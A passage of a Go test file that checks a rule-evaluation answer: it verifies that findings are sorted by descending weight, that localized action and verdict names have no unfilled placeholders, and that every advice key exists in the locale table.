					t.Errorf("%s has no place", f.Rule)
				}
			}
			if !a.ordered() {
				t.Errorf("%v: the strongest is not the first", a.rules())
			}
			for _, did := range Actions {
				for _, lang := range locale.Langs {
					if s := did.Name(lang) + a.Verdict.Name(lang); strings.Contains(s, "[") {
						t.Error(s)
					}
					for _, k := range a.Advice(did) {
						if !locale.Has(k) {
							t.Errorf("%s is no sentence", k)
						}
					}
				}
			}
		}
	}
}

func (a *Answer) ordered() bool {
	for i := 1; i < len(a.Findings); i++ {
		if a.Findings[i].Weight > a.Findings[i-1].Weight {
			return false
		}
	}
	return true
}
